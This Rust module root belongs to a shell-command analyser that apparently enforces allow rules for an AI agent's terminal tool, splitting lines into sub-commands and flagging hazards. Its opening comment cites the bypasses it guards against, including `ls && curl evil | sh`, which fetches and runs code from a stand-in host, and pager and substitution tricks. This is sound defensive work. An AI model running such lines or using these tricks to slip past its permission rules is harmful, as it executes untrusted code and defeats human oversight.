//! Terminal command analysis: which commands a shell line would run, and what about each
//! one an allow rule must never vouch for.
//!
//! Every agent that matched allow rules against the whole string or its first word was
//! talked around (`ls && curl evil | sh`, `echo $(…)`, `git -c core.pager=… log`). Here a
//! command line becomes its sub-commands — including those inside `$( )`, backticks,
//! `<( )`, subshells, groups and `sh -c` payloads — each rendered the way Zed renders them
//! (quotes removed, words joined by one space), with file redirects as items of their own.
//! Whatever the parser cannot vouch for turns allow rules off for the whole input.

mod cursor;
mod hazards;
mod other_shells;
mod parser;
mod powershell_aliases;
mod read_budget;
mod rm_guard;
mod runs;
mod word;

pub use hazards::{Hazard, HazardKind, EXECUTING_FLAGS};
pub use rm_guard::{catastrophic_rm, CatastrophicRm};
#[cfg(feature = "analysis")]
pub(crate) use runs::base_name;
#[cfg(feature = "shell")]
pub(crate) use runs::effective_command;
pub use runs::{wrappers, RunForm};

use runs::Invocation;
use serde::Serialize;

/// Where in the command line an item was found.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "camelCase")]
#[cfg_attr(target_arch = "wasm32", derive(tsify::Tsify))]
pub enum Context {
    /// The command line itself.
    TopLevel,
    /// Inside a subshell `( … )`.
    Subshell,
    /// Inside a group `{ …; }`.
    Group,
    /// Inside `$( … )` or backticks.
    CommandSubstitution,
    /// Inside `<( … )` or `>( … )`.
    ProcessSubstitution,
    /// The script given to `sh -c`, `bash -c` and the like.
    ShellPayload,
}

/// What an item is.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "camelCase")]
#[cfg_attr(target_arch = "wasm32", derive(tsify::Tsify))]
pub enum SubCommandKind {
    /// A simple command: assignments, command word, arguments.
    Command,
    /// A file redirection of a command, such as `> out.txt`.
    Redirect,
}

/// One thing the command line would do, as rules see it.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
#[serde(rename_all = "camelCase")]
#[cfg_attr(target_arch = "wasm32", derive(tsify::Tsify))]
pub struct SubCommand {
    /// The text rules are matched against: quotes removed, words joined by one space;
    /// expansions keep their source text (`$HOME`, `$(date)`).
    pub text: String,
    /// A command or a file redirect.
    pub kind: SubCommandKind,
    /// Where in the line it was found.
    pub context: Context,
    /// The command word after leading assignments, unquoted (absent for redirects and bare assignments).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub name: Option<String>,
    /// The program that runs, by name: past wrappers (`sudo`, `env`, `exec`, `timeout 5`…) and a
    /// path to it (`/usr/bin/curl` is `curl`); PowerShell's in lower case. Absent for redirects.
    #[serde(skip_serializing_if = "Option::is_none")]
    #[cfg_attr(target_arch = "wasm32", tsify(optional))]
    pub program: Option<String>,
    /// The texts of what the command runs beyond the words as written: past its leading
    /// assignments, past each wrapper, with its program's path reduced to the name. Deny and
    /// confirm rules meet each of them too.
    #[serde(skip)]
    pub runs_as: Vec<RunForm>,
    /// The words after the command word, unquoted.
    #[serde(skip_serializing)]
    pub args: Vec<String>,
    /// Byte range of the item in the analysed input.
    pub start: usize,
    /// End of that byte range (exclusive).
    pub end: usize,
    /// Why no allow rule may cover this item; empty when an allow rule may.
    pub hazards: Vec<Hazard>,
}

impl SubCommand {
    /// A command read as blank-separated words, without quoting: the words of a line whose shell
    /// is not known, or of a block that is not analysed. Deny and confirm rules still see what it
    /// runs through its wrappers.
    pub(crate) fn from_blank_separated(text: &str, context: Context, (start, end): (usize, usize), shell: Shell) -> Self {
        let words: Vec<&str> = text.split_whitespace().collect();
        let invocation = runs::invocation(&words, 0, &vec![false; words.len()], shell);
        let mut words = words.into_iter().map(str::to_owned);
        SubCommand {
            text: text.to_owned(),
            kind: SubCommandKind::Command,
            context,
            name: words.next(),
            program: invocation.program,
            runs_as: invocation.forms,
            args: words.collect(),
            start,
            end,
            hazards: Vec::new(),
        }
    }

    /// A command's item: its words (`text`, `name`, `args`), what it runs (`invocation`) and its
    /// hazards, with one more when the program it runs cannot be read from the text.
    fn command(
        text: String,
        context: Context,
        name: Option<String>,
        args: Vec<String>,
        invocation: Invocation,
        (start, end): (usize, usize),
        mut hazards: Vec<Hazard>,
    ) -> Self {
        if let Some(why) = invocation.unreadable {
            let subject = invocation.program.clone().or_else(|| name.clone()).unwrap_or_default();
            hazards.push(Hazard::new(HazardKind::UnreadableProgram, &subject, &why));
        }
        SubCommand {
            text,
            kind: SubCommandKind::Command,
            context,
            name,
            program: invocation.program,
            runs_as: invocation.forms,
            args,
            start,
            end,
            hazards,
        }
    }

    /// A file redirection's item (`text`, such as `> out.txt`). One that writes carries the
    /// hazard of the file it writes, `target`, and so does its command (`command_hazards`).
    fn redirect(
        text: String,
        target: &str,
        writes: bool,
        context: Context,
        (start, end): (usize, usize),
        command_hazards: &mut Vec<Hazard>,
    ) -> Self {
        let mut hazards = Vec::new();
        if writes {
            let hazard = Hazard::new(HazardKind::OutputRedirect, target, "output is redirected to a file");
            command_hazards.push(hazard.clone());
            hazards.push(hazard);
        }
        SubCommand {
            text,
            kind: SubCommandKind::Redirect,
            context,
            name: None,
            program: None,
            runs_as: Vec::new(),
            args: Vec::new(),
            start,
            end,
            hazards,
        }
    }
}

/// Adds a command's item and its redirections to `items`: the command at `owner`, before the
/// items found inside its words, and its redirections after them. Without a command (`> file`)
/// the line is its redirections, and the first of them takes the command's hazards.
fn add_command(items: &mut Vec<SubCommand>, owner: usize, command: SubCommand, has_command: bool, mut redirects: Vec<SubCommand>) {
    if has_command {
        let at = owner.min(items.len());
        items.insert(at, command);
    } else if let Some(first) = redirects.first_mut() {
        first.hazards.extend(command.hazards);
    }
    items.extend(redirects);
}

/// The analysis of one command line.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
#[serde(rename_all = "camelCase")]
#[cfg_attr(target_arch = "wasm32", derive(tsify::Tsify))]
pub struct ShellAnalysis {
    /// Every command and file redirect the line would run, in order.
    pub items: Vec<SubCommand>,
    /// Set when the line did not parse or used syntax the parser does not vouch for;
    /// allow rules are then off for the whole line.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub cannot_vouch: Option<String>,
}

impl ShellAnalysis {
    /// Whether any item carries an expansion or substitution hazard.
    pub fn has_expansion(&self) -> bool {
        self.items.iter().any(|item| item.hazards.iter().any(|h| h.kind == HazardKind::Expansion))
    }
}

/// The shell a terminal tool runs its commands in. Each is analysed as far as its syntax is
/// modelled; anything beyond that sets `cannot_vouch`, so allow rules never guess.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Default, Serialize, serde::Deserialize)]
#[serde(rename_all = "camelCase")]
#[cfg_attr(target_arch = "wasm32", derive(tsify::Tsify))]
#[cfg_attr(feature = "schema", derive(schemars::JsonSchema))]
pub enum Shell {
    /// sh, bash, zsh, dash, ksh, fish's POSIX-like chaining.
    #[default]
    Posix,
    /// Nushell (`nu`).
    Nushell,
    /// Elvish.
    Elvish,
    /// Plan 9's `rc`.
    Rc,
    /// PowerShell (`pwsh`, `powershell`).
    #[serde(rename = "powershell")]
    PowerShell,
    /// Windows `cmd.exe`.
    Cmd,
    /// A shell whose syntax is not modelled at all: nothing is vouched for.
    Unknown,
}

/// Analyses a POSIX/bash command line.
pub fn analyze(command: &str) -> ShellAnalysis {
    parser::parse(command)
}

/// Analyses a command line for the given shell.
pub fn analyze_in(shell: Shell, command: &str) -> ShellAnalysis {
    match shell {
        Shell::Posix => parser::parse(command),
        other => other_shells::analyze(other, command),
    }
}

/// A shell payload (`bash -c '…'`, `pwsh -Command …`) or a line of `shell`, analysed by that
/// shell's reader at `depth`, its items in `context` (and spanning `span_override`), with what is
/// left of the analysis's read budget (`command` itself already taken from it);
/// `followed_outside` are the byte ranges of substitutions an outer shell already followed. Every
/// reader hands payloads here, so no reader names another.
fn analyze_nested(
    shell: Shell,
    command: &str,
    depth: usize,
    context: Context,
    span_override: Option<(usize, usize)>,
    budget: &mut read_budget::ReadBudget,
    followed_outside: Vec<(usize, usize)>,
) -> ShellAnalysis {
    if shell != Shell::Posix {
        return other_shells::analyze_other(shell, command, depth, context, span_override, budget, followed_outside);
    }
    // Only reached for payloads; parse it as the POSIX parser does and adopt its items.
    let mut analysis = parser::parse_nested(command, depth, budget, followed_outside);
    for item in &mut analysis.items {
        if item.context == Context::TopLevel {
            item.context = context;
        }
        if let Some((start, end)) = span_override {
            item.start = start;
            item.end = end;
        }
    }
    analysis
}

#[cfg(test)]
mod tests;
